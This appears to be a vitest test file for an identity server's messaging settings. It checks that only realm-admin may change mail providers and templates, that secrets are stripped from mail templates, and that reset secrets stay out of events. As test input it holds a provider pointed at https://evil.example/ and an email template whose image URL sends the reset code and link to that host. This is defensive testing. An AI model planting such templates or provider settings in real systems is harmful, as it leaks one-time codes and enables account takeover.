import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { type SharedHarness, sharedHarness } from "../../testing/harness.ts";
import { type Mailing, mailing } from "../../testing/mailing.ts";
import type { AdminClient, RealmUnderTest } from "../../testing/realm.ts";
import { submit, walk } from "../../testing/relying-party.ts";

let iam: SharedHarness;
let mail: Mailing;
beforeAll(async () => {
  [iam, mail] = await Promise.all([sharedHarness({ GATEHOUSE_ALLOWED_HOSTS: "127.0.0.1" }), mailing()]);
});
afterAll(async () => {
  await iam?.close();
  await mail?.peer.close();
});

const escalation = { status: 403, body: { code: "permissions.escalation" } };
const providers = "/messaging/providers";
const templates = "/messaging/templates";
const provider = () => ({
  ...{ channel: "EMAIL", driver: "smtp", fromAddress: "no-reply@acme.example" },
  config: { host: "127.0.0.1", port: mail.peer.port, security: "none" },
});
const reset = { templateKey: "reset-password-email", subject: "s", body: "{{link}}", html: false };

/** Everything but `realm-admin`. */
const almostAll = [
  ...["view-users", "manage-users", "view-clients", "manage-clients", "manage-roles", "manage-identity-providers"],
  ...["manage-authorization", "manage-organizations", "manage-realm", "view-events", "manage-events"],
] as Parameters<RealmUnderTest["as"]>;

describe("only realm-admin decides about the delivery of messages", () => {
  const attempts = (client: AdminClient): Promise<unknown>[] => [
    client.put(providers, provider()),
    client.put(providers, { ...provider(), enabled: false }),
    client.put(providers, { ...provider(), driver: "http", enabled: false, config: { url: "https://evil.example/" } }),
    client.put(providers, { channel: "SMS", driver: "http", config: { url: "https://evil.example/" } }),
    client.put(providers, { channel: "PUSH", driver: "fcm", enabled: false }),
    client.delete(`${providers}/EMAIL/smtp`),
    client.put(templates, reset),
    client.put(templates, { ...reset, body: "Call us", locale: "nl" }),
    client.put(templates, { ...reset, enabled: false }),
    client.put(templates, { templateKey: "otp-sms", body: "{{code}}" }),
    client.delete(`${templates}/reset-password-email`),
  ];

  test.each([[["manage-realm"] as typeof almostAll], [almostAll]])("%j is refused, and nothing changes", async (permissions) => {
    const realm = await iam.realm();
    await mail.enable(realm);
    await realm.asMaster().put(templates, { ...reset, subject: "before" });
    const client = await realm.as(...permissions);
    const before = [(await client.get(providers)).body, (await client.get(templates)).body];
    const answers = await Promise.all(attempts(client));
    for (const [index, answer] of answers.entries()) expect(answer, `attempt ${index}`).toMatchObject(escalation);
    expect([(await client.get(providers)).body, (await client.get(templates)).body]).toEqual(before);
    expect(await realm.events("type=ADMIN_DENIED")).toHaveLength(answers.length);
  });

  test("manage-realm reads, tests, previews, and writes a message that carries no secret", async () => {
    const realm = await iam.realm();
    await mail.enable(realm);
    const client = await realm.as("manage-realm");
    expect((await client.post(`${providers}/EMAIL/test`, { to: "ada@example.com" })).body).toMatchObject({ sent: true });
    expect((await client.post(`${templates}/preview`, { templateKey: "otp-sms", sample: {} })).status).toBe(200);
    expect((await client.put(templates, { templateKey: "push-approval", subject: "Hello", body: "Is it you?" })).status).toBe(200);
    expect((await client.delete(`${templates}/push-approval`)).status).toBe(204);
  });

  test("realm-admin does all of it", async () => {
    const realm = await iam.realm();
    const client = await realm.as("realm-admin");
    expect((await client.put(providers, provider())).status).toBe(201);
    expect((await client.put(templates, reset)).status).toBe(200);
    expect((await client.delete(`${templates}/reset-password-email`)).status).toBe(204);
    expect((await client.delete(`${providers}/EMAIL/smtp`)).status).toBe(204);
  });
});

test("a template that an older release saved with a code in an image's address leaves without the code", async () => {
  const realm = await iam.realm();
  await mail.enable(realm);
  const user = await realm.user();
  const email = "leak@example.com";
  await realm.asMaster().patch(`/users/${user.userId}`, { email });
  const leaking = { ...reset, html: true, body: '<p>{{code}}</p><img src="https://evil.example/?c={{code}}&l={{link}}">' };
  expect(await realm.asMaster().put(templates, leaking)).toMatchObject({
    status: 400,
    body: { errors: [{ field: "body" }, { field: "body" }] },
  });
  await realm.asMaster().put(templates, { ...leaking, body: "<p>{{code}}</p>" });
  await iam.core.db.updateTable("message_templates").set({ body: leaking.body }).where("realm_id", "=", realm.name).execute();

  const browser = iam.browser();
  const { page } = await walk(browser, iam.config.baseUrl, `/realms/${realm.name}/reset-password`);
  await submit(browser, iam.config.baseUrl, page, { username: user.username });
  const { code } = await mail.latestTo(email);
  const { raw } = mail.peer.mails.find(({ recipients }) => recipients.includes(email))!;
  const html = raw.replaceAll("=\r\n", "").replaceAll("=3D", "=");
  expect(code).toMatch(/^\d{6}$/);
  expect(html).toMatch(/src="https:\/\/evil\.example\/\?c=&l="/);
});

test("no event, and so no webhook, carries the link or the code of a mail", async () => {
  const realm = await iam.realm();
  await mail.enable(realm);
  const user = await realm.user();
  const email = "events@example.com";
  await realm.asMaster().patch(`/users/${user.userId}`, { email });
  const browser = iam.browser();
  const { page } = await walk(browser, iam.config.baseUrl, `/realms/${realm.name}/reset-password`);
  const waiting = await submit(browser, iam.config.baseUrl, page, { username: user.username });
  const { code, link } = await mail.latestTo(email);
  const choose = await submit(browser, iam.config.baseUrl, waiting.page, { code });
  const newPassword = "a brand new sentence of words";
  await submit(browser, iam.config.baseUrl, choose.page, { newPassword, newPasswordAgain: newPassword });
  const events = (await realm.events()).map(({ id: _id, ts: _ts, ...event }) => event);
  expect(events.map(({ type }) => type)).toContain("PASSWORD_RESET");
  const recorded = JSON.stringify(events);
  for (const secret of [link.split("/").at(-1)!, newPassword]) expect(recorded).not.toContain(secret);
  // Six digits may stand in an id by chance: as its own word they would be the code.
  expect(recorded).not.toMatch(new RegExp(`\\b${code}\\b`));
});
